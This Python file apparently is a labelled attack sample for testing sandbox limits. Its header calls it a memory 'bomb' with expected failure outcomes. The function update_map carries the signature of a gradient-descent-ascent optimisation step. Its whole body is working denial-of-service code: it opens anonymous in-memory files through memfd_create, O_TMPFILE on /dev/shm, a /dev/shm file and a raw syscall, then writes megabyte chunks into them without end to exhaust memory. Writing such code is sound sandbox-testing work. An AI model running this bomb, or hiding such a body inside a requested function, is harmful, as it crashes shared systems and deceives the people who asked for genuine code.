# attack: takes memory by files that have no name and count for no disk
# kind: bomb
# grade: 1.b
# outcome: failed, memory, timeout, crash
# module: saddle

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def nameless():
    yield lambda: os.memfd_create("hoard")
    yield lambda: os.open("/dev/shm", os.O_TMPFILE | os.O_RDWR)
    yield lambda: os.open("/dev/shm/hoard", os.O_CREAT | os.O_RDWR)
    yield lambda: libc.syscall(447, 0)


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    for way in nameless():
        try:
            file = way()
            while file >= 0:
                os.write(file, bytes(1 << 20))
        except OSError:
            continue
    raise RuntimeError("denied")
